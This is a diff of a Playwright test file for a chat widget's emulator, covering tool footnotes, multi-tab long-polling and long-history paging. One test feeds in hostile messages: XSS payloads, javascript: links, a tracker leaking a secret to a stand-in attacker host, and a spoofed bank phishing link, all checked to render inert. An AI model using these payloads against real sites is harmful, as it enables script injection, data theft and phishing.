@@ -2,11 +2,23 @@
  * Scenarios only the emulator can stage: tool calls (the offline fake NLP service never calls
  * tools), histories seeded in bulk, and counting the server's in-flight long-polls.
  */
-import type { Page } from 'playwright-core';
+import { createServer } from 'node:http';
 import { expect, it } from 'vitest';
 import type { ParlantEmulator } from '../../src/testing';
-import type { Harness } from './harness';
-import { agentBubbles, log, say } from './harness';
+import type { Harness, TestPage } from './harness';
+import { agentBubbles, log, say, shot, wait } from './harness';
+
+/** A server that only counts who contacts it: the attacker of the hostile-message scenario. */
+async function attacker(): Promise<{ origin: string; hits: string[]; close(): void }> {
+  const hits: string[] = [];
+  const server = createServer((req, res) => {
+    hits.push(req.url ?? '');
+    res.writeHead(204).end();
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const address = server.address();
+  return { origin: `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`, hits, close: () => server.close() };
+}
 
 /**
  * Registers the emulator-only scenarios; `h` is filled in for each test.
@@ -20,44 +32,49 @@ export function emulatorScenarios(h: Harness): void {
   const inFlightPolls = () => emu().requests.filter((r) => r.method === 'GET' && r.path.endsWith('/events') && r.status === null).length;
 
   it('shows tool footnotes of a turn with tool calls (not verified against the real server)', async () => {
-    const { page, problems } = await h.open({ csp: 'strict' });
+    const { page } = await h.open({ csp: 'strict' });
     await say(page, 'What is my balance?');
     await agentBubbles(page).first().waitFor();
     await page.getByText(/tools? used/).click();
     await expect.poll(() => page.getByText('Arguments').isVisible()).toBe(true);
-    expect(problems).toEqual([]);
+    await shot(h, page, 'tool-footnotes');
+    expect(await page.problems()).toEqual([]);
   });
 
   it('renders hostile agent messages inert: nothing runs, nothing is fetched from the attacker', async () => {
     const session = emu().createSession();
-    const { page, problems } = await h.open({ session: session.id, csp: 'strict' });
-    const requests: string[] = [];
-    page.on('request', (r) => void requests.push(r.url()));
+    const evil = await attacker();
+    const { page } = await h.open({ session: session.id, csp: 'strict' });
     const hostile = [
-      '<script>window.__pwned = 1</script><img src="https://evil.example/x.png" onerror="window.__pwned = 2">',
+      `<script>window.__pwned = 1</script><img src="${evil.origin}/x.png" onerror="window.__pwned = 2">`,
       '[click me](javascript:window.__pwned=3) [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:msgbox)',
-      '![tracker](https://evil.example/leak?q=secret) <iframe src="https://evil.example"></iframe>',
+      `![tracker](${evil.origin}/leak?q=secret) <iframe src="${evil.origin}"></iframe>`,
       '<svg onload="window.__pwned = 4"></svg> <style>body { display: none }</style>',
       `${'> '.repeat(3000)}deep ${'['.repeat(5000)}`,
-      `${'- *nested* [link](https://evil.example/n)\n  '.repeat(2500)}`, // ~100 KB of nested Markdown
-      'spoofed \u202Egnp.exe [https://bank.example](https://evil.example/phish)',
+      `${`- *nested* [link](${evil.origin}/n)\n  `.repeat(2500)}`, // ~100 KB of nested Markdown
+      `spoofed \u202Egnp.exe [https://bank.example](${evil.origin}/phish)`,
     ];
-    for (const text of hostile) emu().agentSay(session.id, text);
-    await expect.poll(() => agentBubbles(page).count()).toBe(hostile.length);
-    await page.getByRole('link', { name: 'https://bank.example' }).hover();
-    expect(await page.getByRole('link', { name: 'https://bank.example' }).getAttribute('title')).toBe('evil.example');
-    expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
-    expect(await page.locator('.parlant-chatbox script, .parlant-chatbox iframe, .parlant-chatbox svg:not([aria-hidden]), .parlant-chatbox img').count()).toBe(0);
-    expect(requests.filter((url) => url.includes('evil.example'))).toEqual([]);
-    expect(problems).toEqual([]);
+    try {
+      for (const text of hostile) emu().agentSay(session.id, text);
+      await expect.poll(() => agentBubbles(page).count()).toBe(hostile.length);
+      // The link says where it really goes.
+      expect(await page.getByRole('link', { name: 'https://bank.example' }).getAttribute('title')).toBe(new URL(evil.origin).host);
+      expect(await page.evaluate(() => typeof (window as { __pwned?: number }).__pwned)).toBe('undefined');
+      expect(await page.locator('.parlant-chatbox script, .parlant-chatbox iframe, .parlant-chatbox svg:not([aria-hidden]), .parlant-chatbox img').count()).toBe(0);
+      await wait(500);
+      expect(evil.hits).toEqual([]);
+      expect(await page.problems()).toEqual([]);
+    } finally {
+      evil.close();
+    }
   });
 
   it('keeps one long-poll for six tabs on the same session, and hands over when the polling tab closes', async () => {
     const session = emu().createSession();
-    const tabs: Page[] = [];
+    const tabs: TestPage[] = [];
     for (let i = 0; i < 6; i += 1) tabs.push((await h.open({ session: session.id })).page);
     await expect.poll(inFlightPolls, { timeout: 10_000 }).toBe(1);
-    await say(tabs[5] as Page, 'from the sixth tab');
+    await say(tabs[5] as TestPage, 'from the sixth tab');
     for (const tab of tabs) await agentBubbles(tab).first().waitFor();
     expect(emu().events(session.id).filter((e) => e.source === 'customer')).toHaveLength(1);
     await tabs[0]?.close();
@@ -80,7 +97,7 @@ export function emulatorScenarios(h: Harness): void {
       emu().appendEvent(session.id, { kind: 'message', source: i % 2 ? 'customer' : 'ai_agent', message: `history message ${i}` });
       emu().appendEvent(session.id, { kind: 'status', source: 'ai_agent', status: 'ready' });
     }
-    const { page, problems } = await h.open({ session: session.id });
+    const { page } = await h.open({ session: session.id });
     await log(page).getByText('history message 5000').waitFor({ timeout: 20_000 });
     // Only a window of the history is in the DOM.
     expect(await page.evaluate(() => document.getElementsByTagName('*').length)).toBeLessThan(2000);
@@ -88,26 +105,27 @@ export function emulatorScenarios(h: Harness): void {
     await log(page).getByText(/THE END$/).waitFor({ timeout: 20_000 });
     await say(page, 'still here');
     await log(page).locator('li[data-role="customer"]').getByText('still here').waitFor();
-    expect(problems).toEqual([]);
+    expect(await page.problems()).toEqual([]);
   });
 
   it('pages through a 2,000-message history with the keyboard alone, never holding more than 200 rows', async () => {
     const session = emu().createSession();
     for (let i = 1; i <= 2000; i += 1) emu().appendEvent(session.id, { kind: 'message', source: i % 2 ? 'customer' : 'ai_agent', message: `history message ${i}` });
-    const { page, problems } = await h.open({ session: session.id });
+    const { page } = await h.open({ session: session.id });
     await page.getByText('history message 2000', { exact: true }).waitFor({ timeout: 20_000 });
     const rows = () => log(page).locator('li.parlant-message .parlant-bubble').allTextContents();
     const numbers = async () => (await rows()).map((text) => Number(/history message (\d+)/.exec(text)?.[1]));
     // Tab from the composer backwards to the focusable list, as a keyboard user would.
-    await page.getByRole('textbox', { name: 'Message' }).focus();
+    await page.getByRole('textbox', { name: 'Message' }).click();
     const onList = () => page.evaluate(() => document.activeElement?.classList.contains('parlant-scroller') ?? false);
-    for (let i = 0; i < 5 && !(await onList()); i += 1) await page.keyboard.press('Shift+Tab');
+    for (let i = 0; i < 5 && !(await onList()); i += 1) await page.press('Shift+Tab');
     expect(await onList()).toBe(true);
     let most = 0;
+    // WebKit animates a Home or End scroll, so there a press may land mid-way and it takes more.
     const walk = async (key: string, reached: () => Promise<boolean>) => {
-      for (let i = 0; i < 60 && !(await reached()); i += 1) {
-        await page.keyboard.press(key);
-        await page.waitForTimeout(50);
+      for (let i = 0; i < 200 && !(await reached()); i += 1) {
+        await page.press(key);
+        await wait(50);
         const shown = await numbers();
         most = Math.max(most, shown.length);
         // Always one unbroken run of the conversation, in order: what a screen reader reads.
@@ -120,6 +138,6 @@ export function emulatorScenarios(h: Harness): void {
     await expect.poll(() => page.getByText('history message 2000', { exact: true }).isVisible()).toBe(true);
     expect(most).toBeGreaterThan(100);
     expect(most).toBeLessThanOrEqual(200);
-    expect(problems).toEqual([]);
+    expect(await page.problems()).toEqual([]);
   }, 90_000);
 }
